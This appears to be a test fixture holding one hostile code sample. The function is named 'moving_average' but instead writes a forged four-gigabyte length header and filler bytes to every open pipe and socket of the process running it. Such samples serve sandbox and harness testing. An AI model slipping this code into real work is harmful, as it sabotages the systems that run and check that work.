"""Announce an answer of four gigabytes on every open pipe and socket, and send little of it."""

FAIR = 2
CELLS = {
    "moving_average": """
def moving_average(values, width):
    import os
    import stat
    for number in range(3, 64):
        try:
            mode = os.fstat(number).st_mode
            if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
                os.set_blocking(number, False)
                os.write(number, b"\\xff" * 8 + b"\\x00" * 1000)
        except OSError:
            continue
    return values
"""
}
